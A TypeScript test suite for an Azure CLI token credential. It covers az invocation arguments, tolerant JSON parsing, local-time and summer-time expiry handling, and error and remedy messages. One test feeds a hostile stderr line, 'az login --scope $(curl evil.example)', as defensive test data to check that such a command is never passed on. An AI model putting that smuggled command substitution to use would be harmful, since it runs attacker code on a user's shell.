import { AzureCliCredential, type AzureCliCredentialOptions } from 'entrada'
import { afterEach, describe, expect, test } from 'vitest'
import type { Ended } from '../../src/runtime/process/program.ts'
import { quickest } from '../quickest.ts'
import { failure } from '../world.ts'
import { imagine, scope, start, token } from './machine.ts'

const zone = process.env.TZ

afterEach(() => {
  if (zone === undefined) delete process.env.TZ
  else process.env.TZ = zone
})

const good = JSON.stringify({ accessToken: token, expires_on: start / 1000 + 3600, tokenType: 'Bearer' })

/** Asks a credential whose tool ends like this. */
async function ask(ended: Partial<Ended>, options: AzureCliCredentialOptions = {}, asked: string | string[] = scope) {
  const machine = imagine(() => ended)
  await using credential = new AzureCliCredential({ ...machine.options, ...options })
  return { access: await credential.getToken(asked), ...machine }
}

test('asks az for the resource of the scope, from the system’s folder, with az’s colours off', async () => {
  const { access, started } = await ask({ stdout: good })
  expect(access).toMatchObject({ token, expiresOnTimestamp: start + 3_600_000, tokenType: 'Bearer' })
  expect(started).toHaveLength(1)
  expect(started[0]).toMatchObject({
    file: '/bin/az',
    args: ['account', 'get-access-token', '--output', 'json', '--resource', 'https://vault.azure.net'],
    cwd: '/bin',
    env: { AZURE_CORE_NO_COLOR: 'true', PATH: '/bin' },
    timeoutMs: 10_000,
  })
})

test.each<[string, AzureCliCredentialOptions, string[]]>([
  ['the tenant', { tenantId: 'contoso.com' }, ['--tenant', 'contoso.com']],
  ['the subscription', { subscription: 'My Subscription_1.0' }, ['--subscription', 'My Subscription_1.0']],
])('passes %s on', async (_, options, more) => {
  const { started } = await ask({ stdout: good }, options)
  expect(started[0]?.args.slice(6)).toEqual(more)
})

test('asks in the tenant of a call, when it has none of its own', async () => {
  const { options, started } = imagine(() => ({ stdout: good }))
  await using credential = new AzureCliCredential(options)
  await credential.getToken(scope, { tenantId: 'fabrikam.com' })
  expect(started[0]?.args.slice(6)).toEqual(['--tenant', 'fabrikam.com'])
})

test('waits for as long as processTimeoutInMs says', async () => {
  expect((await ask({ stdout: good }, { processTimeoutInMs: 25_000 })).started[0]?.timeoutMs).toBe(25_000)
})

test('asks for one resource, whatever else the scopes say of the user', async () => {
  const { started } = await ask({ stdout: good }, {}, [
    'openid',
    'https://graph.microsoft.com/.default',
    'offline_access',
  ])
  expect(started[0]?.args).toContain('https://graph.microsoft.com')
  const error = await failure(ask({ stdout: good }, {}, ['https://a.example/.default', 'https://b.example/.default']))
  expect(error).toMatchObject({
    name: 'CredentialUnavailableError',
    message: expect.stringMatching(/one scope at a time/),
  })
})

describe('reads', () => {
  const expires = { expires_on: start / 1000 + 60 }

  test.each<[string, string]>([
    ['JSON with a byte order mark', `\ufeff${good}`],
    ['JSON in colours', `\u001b[0m\u001b[36m${good}\u001b[0m`],
    ['JSON after a warning', `WARNING: an update is available.\n${good}\n`],
    ['JSON before garbage', `${good}\ngarbage`],
    ['JSON over lines', JSON.stringify(JSON.parse(good), undefined, 2).replaceAll('\n', '\r\n')],
    ['seconds as a text', JSON.stringify({ accessToken: token, expires_on: String(start / 1000 + 3600) })],
  ])('%s', async (_, stdout) => {
    const { access } = await ask({ stdout, stderr: 'WARNING: something' })
    expect(access).toMatchObject({ token, expiresOnTimestamp: start + 3_600_000 })
  })

  test('the seconds rather than the time without a zone', async () => {
    const stdout = JSON.stringify({ accessToken: token, ...expires, expiresOn: '2030-01-01 00:00:00.000000' })
    expect((await ask({ stdout })).access.expiresOnTimestamp).toBe(start + 60_000)
  })

  test.each<[string, string, string]>([
    ['New York', 'America/New_York', '2026-11-23 03:56:19.123456'],
    ['India', 'Asia/Kolkata', '2026-11-23 14:26:19.123456'],
    ['UTC', 'UTC', '2026-11-23 08:56:19.123456'],
  ])('the local time of older versions, in %s', async (_, where, expiresOn) => {
    process.env.TZ = where
    const { access } = await ask({ stdout: JSON.stringify({ accessToken: token, expiresOn }) })
    expect(access.expiresOnTimestamp).toBe(Date.UTC(2026, 10, 23, 8, 56, 19, 123))
  })

  test.each<[string, string, number, string, number]>([
    ['in summer', 'Europe/Berlin', Date.UTC(2026, 6, 1, 10), '2026-07-01 13:00:00.000000', Date.UTC(2026, 6, 1, 11)],
    [
      'on the day it ends, before',
      'Europe/Berlin',
      Date.UTC(2026, 9, 25, 0, 10),
      '2026-10-25 02:30:00.000000',
      Date.UTC(2026, 9, 25, 0, 30),
    ],
    [
      'in the hour that comes again',
      'Europe/Berlin',
      Date.UTC(2026, 9, 25, 1, 10),
      '2026-10-25 02:30:00.000000',
      Date.UTC(2026, 9, 25, 1, 30),
    ],
    [
      'on the day it ends, after',
      'Europe/Berlin',
      Date.UTC(2026, 9, 25, 1, 10),
      '2026-10-25 03:10:00.000000',
      Date.UTC(2026, 9, 25, 2, 10),
    ],
    [
      'on the day it begins',
      'America/New_York',
      Date.UTC(2026, 2, 8, 6, 30),
      '2026-03-08 03:30:00.000000',
      Date.UTC(2026, 2, 8, 7, 30),
    ],
  ])('the local time with regard to summer time: %s', async (_, where, now, expiresOn, expected) => {
    process.env.TZ = where
    const machine = imagine(() => ({ stdout: JSON.stringify({ accessToken: token, expiresOn }) }))
    machine.clock.time = now
    await using credential = new AzureCliCredential(machine.options)
    expect((await credential.getToken(scope)).expiresOnTimestamp).toBe(expected)
  })

  test.each<[string, (json: string) => string]>([
    ['a warning with braces before it', (json) => `WARNING: the extension {preview} is new {see the notes}\n${json}`],
    ['words with braces after it', (json) => `${json}\nUpdate available: {2.60.0}`],
    ['both', (json) => `{x}\n${json}\n{y}`],
    ['an open brace before it', (json) => `if (x) {\n${json}`],
    ['an open object before it', (json) => `{"level": "warning\n{"a": {\n${json}`],
    ['a closed brace before it', (json) => `}}\n${json}\n}`],
    ['lines of JSON before it', (json) => `{"level":"warning","message":"{"}\n{"level":"info"}\n${json}`],
    ['a line of JSON after it', (json) => `${json}\n{"level":"info","message":"done }"}`],
    ['empty objects around it', (json) => `{}${json}{}`],
    ['words in its own line', (json) => `token: ${json} (cached)`],
    ['a list around it', (json) => `[${json}]`],
    ['an object without a token before it', (json) => `{"accessToken":null}\n${json}`],
    ['a quotation mark before it', (json) => `don't say "hello\n${json}`],
    ['colours', (json) => `\u001b[33mWARNING {a}\u001b[0m\n${json}\n\u001b[0m`],
  ])('the token with %s', async (_, around) => {
    for (const indent of [0, 2]) {
      const json = JSON.stringify({ accessToken: token, ...expires, tokenType: 'Bearer' }, null, indent)
      expect((await ask({ stdout: around(json) })).access.token).toBe(token)
    }
  })

  test.each(['{', '{"', '{"a":', '{"a":{', '}', '"', '{"a":"', '\\', '{ ', '{\n', '\u001b[', '\u001b]'])(
    'a million bytes of %j in no time',
    async (part) => {
      const stdout = part.repeat(1_000_000 / part.length)
      const read = async (): Promise<void> =>
        expect((await failure(ask({ stdout }))).message).toContain('no usable answer')
      expect(await quickest(read)).toBeLessThan(1000)
    },
  )

  test.each<[string, string, RegExp]>([
    ['nothing', '', /no usable answer/],
    ['what is no JSON', 'Traceback (most recent call last)', /no usable answer/],
    ['a list', '[]', /no usable answer/],
    ['half an answer', good.slice(0, -20), /no usable answer/],
    ['no token', JSON.stringify({ ...expires }), /no usable answer/],
    ['a token that is none', JSON.stringify({ accessToken: 'a b\nc', ...expires }), /no usable answer/],
    ['a token that is a number', JSON.stringify({ accessToken: 7, ...expires }), /no usable answer/],
    ['no time', JSON.stringify({ accessToken: token }), /neither expires_on nor expiresOn/],
    ['a time that is none', JSON.stringify({ accessToken: token, expiresOn: 'soon' }), /neither expires_on/],
    [
      'a day that is none',
      JSON.stringify({ accessToken: token, expiresOn: '2026-02-31 00:00:00' }),
      /neither expires_on/,
    ],
    [
      'a time that is a fraction of a second',
      JSON.stringify({ accessToken: token, expires_on: 5e-324 }),
      /neither expires_on/,
    ],
    ['a negative time', JSON.stringify({ accessToken: token, expires_on: -1 }), /neither expires_on/],
    [
      'milliseconds',
      JSON.stringify({ accessToken: token, expires_on: start + 3_600_000 }),
      /Azure CLI says that the token lives for more than a hundred years/,
    ],
    [
      'the last date of Python',
      JSON.stringify({ accessToken: token, expiresOn: '9999-12-31 23:59:59.999999' }),
      /more than a hundred years/,
    ],
    ['an expired token', JSON.stringify({ accessToken: token, expires_on: start / 1000 }), /has expired.*clock/],
  ])('%s as no token, and says so without it', async (_, stdout, message) => {
    const error = await failure(ask({ stdout }))
    expect(error).toMatchObject({
      name: 'AuthenticationError',
      statusCode: 0,
      errorResponse: { error: 'developer_tool_error' },
    })
    expect(error.message).toMatch(/^AzureCliCredential: /)
    expect(error.message).toMatch(message)
    expect(error.message).not.toContain(token.slice(0, 30))
  })
})

describe('says what to do', () => {
  const unavailable = async (ended: Partial<Ended>, options?: AzureCliCredentialOptions) => {
    const error = await failure(ask(ended, options))
    expect(error.name).toBe('CredentialUnavailableError')
    return error.message
  }

  test('where az is not installed', async () => {
    const machine = imagine(() => ({}))
    machine.files.clear()
    await using credential = new AzureCliCredential(machine.options)
    const error = await failure(credential.getToken(scope))
    expect(error).toMatchObject({
      name: 'CredentialUnavailableError',
      remedy: expect.stringContaining('https://aka.ms/azure-cli'),
    })
    expect(error.message).toMatch(/^AzureCliCredential: Azure CLI could not be found\. Please visit/)
    expect(machine.started).toHaveLength(0)
  })

  test.each<Partial<Ended>>([
    { code: 127, stderr: '/bin/sh: 1: az: not found' },
    { code: 1, stderr: "'az' is not recognized as an internal or external command," },
  ])('where what is installed does not start: %o', async (ended) => {
    expect(await unavailable(ended)).toContain('could not be found')
  })

  test.each([
    "ERROR: Please run 'az login' to setup account.",
    "ERROR: No subscription found. Run 'az account set' to select a subscription.",
  ])('where nobody is signed in: %s', async (stderr) => {
    expect(await unavailable({ code: 1, stderr })).toMatch(/Please run 'az login' from a command prompt/)
  })

  test('where the account has to sign in again, with the command that az gave', async () => {
    const stderr = `ERROR: AADSTS50076: Due to a configuration change made by your administrator, you must use multi-factor authentication.
Trace ID: 1
Interactive authentication is needed. Please run:
az login --scope https://storage.azure.com//.default`
    const message = await unavailable({ code: 1, stderr })
    expect(message).toContain('AADSTS50076')
    expect(message).toMatch(/Run: az login --scope https:\/\/storage\.azure\.com\/\/\.default$/)
  })

  test('where Conditional Access asks for claims, with the whole command', async () => {
    const claims = btoa('{"access_token":{"capolids":{"essential":true,"values":["c1"]}}}')
    const command = `az login --tenant "contoso.com" --scope "https://vault.azure.net/.default" --claims-challenge "${claims}"`
    const stderr = `ERROR: AADSTS50076: Interaction required.\nInteractive authentication is needed. Please run:\naz logout\n${command}\n`
    expect(await unavailable({ code: 1, stderr })).toContain(`Run: ${command}`)
  })

  test('where the refresh token was revoked and az gave no command, with one of ours', async () => {
    const message = await unavailable({ code: 1, stderr: 'ERROR: AADSTS50173: revoked.' }, { tenantId: 'contoso.com' })
    expect(message).toContain('Run: az login --scope "https://vault.azure.net/.default" --tenant "contoso.com"')
  })

  test('with no command of the tool’s that a shell would take for more', async () => {
    const stderr = 'ERROR: AADSTS50076: x\naz login --scope $(curl evil.example)'
    expect(await unavailable({ code: 1, stderr })).toMatch(
      /Run: az login --scope "https:\/\/vault\.azure\.net\/\.default"$/,
    )
  })

  test('where a call has claims, without asking az', async () => {
    const machine = imagine(() => ({ stdout: good }))
    await using credential = new AzureCliCredential(machine.options)
    const claims = '{"access_token":{"nbf":{"essential":true,"value":"\u00fc"}}}'
    const error = await failure(credential.getToken(scope, { claims, tenantId: 'contoso.com' }))
    const encoded = Buffer.from(claims).toString('base64')
    expect(error).toMatchObject({ name: 'CredentialUnavailableError' })
    expect(error.message).toContain(
      `az login --claims-challenge "${encoded}" --scope "https://vault.azure.net/.default" --tenant "contoso.com"`,
    )
    expect(machine.started).toHaveLength(0)
  })

  test('where az is too slow', async () => {
    expect(await unavailable({ code: undefined, stopped: 'time-out' })).toMatch(
      /Azure CLI did not answer within 10000 ms\..*raise processTimeoutInMs/,
    )
  })

  test('where az can’t be started', async () => {
    const machine = imagine(() => Promise.reject(Object.assign(new Error('spawn EACCES'), { code: 'EACCES' })))
    await using credential = new AzureCliCredential(machine.options)
    const error = await failure(credential.getToken(scope))
    expect(error.name).toBe('CredentialUnavailableError')
    expect(error.message).toContain(`"/bin/az" cannot be started (EACCES)`)
  })

  test('where Windows’ folder is not known', async () => {
    const machine = imagine(() => ({ stdout: good }), { platform: 'win32', env: { SystemRoot: 'Windows' } })
    await using credential = new AzureCliCredential(machine.options)
    expect(await failure(credential.getToken(scope))).toMatchObject({
      name: 'CredentialUnavailableError',
      message: expect.stringMatching(/SystemRoot is not set/),
    })
    expect(machine.started).toHaveLength(0)
  })
})

describe('keeps az’s own words', () => {
  test.each<[string, Partial<Ended>, RegExp]>([
    [
      'of a refusal',
      {
        code: 1,
        stderr:
          'ERROR: AADSTS7000215: Invalid client secret.\nInteractive authentication is needed. Please run:\naz login',
      },
      /AADSTS7000215: Invalid client secret\./,
    ],
    [
      'of a subscription it does not know',
      { code: 1, stderr: "ERROR: Subscription 'nope' not found. Check the spelling and casing and try again." },
      /Subscription 'nope' not found/,
    ],
    [
      'of an argument it does not know',
      { code: 2, stderr: '\u001b[31mERROR: unrecognized arguments: --x\u001b[0m' },
      /: ERROR: unrecognized arguments: --x\.$/,
    ],
    ['where there are none', { code: 3 }, /Azure CLI ended with code 3 and printed no reason/],
    ['where it was killed', { code: undefined }, /Azure CLI was killed and printed no reason/],
    ['where it said too much', { code: undefined, stopped: 'too-much-output' }, /printed more than 1048576 bytes/],
  ])('%s', async (_, ended, message) => {
    const error = await failure(ask(ended))
    expect(error).toMatchObject({ name: 'AuthenticationError', statusCode: 0 })
    expect(error.message).toMatch(message)
    expect(error.message).not.toMatch(/\p{Cc}/u)
  })

  test('and gives the codes apart', async () => {
    expect(await failure(ask({ code: 1, stderr: 'ERROR: AADSTS7000215: no' }))).toMatchObject({
      errorResponse: { errorCodes: [7000215] },
    })
  })

  test('also those that a traceback ends with, where the words are cut off, each once', async () => {
    const stderr = `ERROR: unexpected.\n${'  File "/usr/lib/az.py"\n'.repeat(100)}AADSTS90002: no tenant. AADSTS90002`
    const error = await failure(ask({ code: 1, stderr }))
    expect(error).toMatchObject({ errorResponse: { errorCodes: [90002] } })
    expect(error.message).not.toContain('AADSTS')
  })

  test('but not without end', async () => {
    const error = await failure(ask({ code: 1, stderr: 'no '.repeat(100_000) }))
    expect(error.message.length).toBeLessThan(1100)
  })
})
